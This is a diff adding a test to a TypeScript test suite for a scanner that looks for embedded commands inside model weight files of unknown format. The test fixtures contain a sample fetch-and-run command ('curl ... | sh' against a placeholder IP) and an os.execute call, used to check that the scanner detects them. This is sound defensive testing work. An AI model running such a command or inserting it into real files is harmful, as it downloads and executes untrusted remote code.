@@ -56,3 +56,12 @@ test('weights of a model beside them are numbers; what lies in them is seen', ()
   expect(found('m.bin', Buffer.concat([numbers, acts, numbers]), { 'm.xml': net })).toBe('malicious file.raw-weights file.held-pickle');
   expect(found('m.bin', padded('Rar!\x1a\x07\x01\0'), { 'm.xml': net })).toBe('unscanned file.unknown-format');
 });
+
+test('a command among the bytes of a model of no known kind is told, words about commands are not', () => {
+  const binary = (text: string): Buffer => Buffer.concat([padded('\x01\x02\xff\xfe'), Buffer.from(`\0\x04${text}\0\x01`, 'latin1'), padded('')]);
+  expect(scan('m.weights', binary("os.execute('touch x')")).findings.map(({ rule }) => rule)).toEqual(['file.unknown-format', 'file.held-command']);
+  expect(scan('m.weights', binary('curl -s http://203.0.113.7/a.sh | sh')).verdict).toBe('suspicious');
+  expect(scan('m.weights', binary('system: execution of the bash tokenizer')).findings.map(({ rule }) => rule)).toEqual(['file.unknown-format']);
+  // Of kinds that are known to hold files, texts may be about anything.
+  expect(scan('a.rar', Buffer.concat([padded('Rar!\x1a\x07\x01\0'), binary('curl -s http://203.0.113.7/a.sh | sh')])).verdict).toBe('unscanned');
+});
